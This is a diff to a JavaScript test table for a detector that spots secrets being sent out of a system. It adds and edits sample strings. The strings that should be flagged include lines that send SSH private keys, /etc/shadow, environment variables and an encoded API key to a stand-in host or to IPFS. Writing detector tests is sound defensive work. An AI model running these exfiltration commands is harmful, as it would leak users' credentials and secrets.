@@ -15,6 +15,8 @@ it.each([
   'client.PostAsync("https://c.example.cc", new StringContent(File.ReadAllText("/root/.ssh/id_rsa")))',
   'file_put_contents("ftp://c.example.cc/k", file_get_contents("/etc/shadow"));',
   'ws.send(JSON.stringify(process.env))',
+  'check("http://localhost:3000"); ws.send(JSON.stringify(process.env))',
+  'ipfs add --api=http://localhost:5001 ~/.ssh/id_rsa',
   'navigator.sendBeacon("https://c.example.cc/b", JSON.stringify(process.env))',
   'socket.gethostbyname(os.environ["API_KEY"].encode().hex() + ".c.example.cc")',
 ])('a secret that is handed on is told by what it is: %s', (text) =>
@@ -31,6 +33,6 @@ it.each([
   'git add README.md && git commit -m "Say where ~/.ssh/id_rsa is read"',
   'console.log(JSON.stringify(process.env))',
   'fs.writeFileSync("env.json", JSON.stringify(process.env))',
-  'fetch("http://localhost:3000/e", { method: "POST" }); ws.send(JSON.stringify(process.env))',
+  'axios.post("http://localhost:3000/e", process.env)',
   'socket.gethostbyname(os.environ["HOST"])',
 ])('what is used, or stays, is not: %s', (text) => expect(typesIn(text)).toEqual([]));
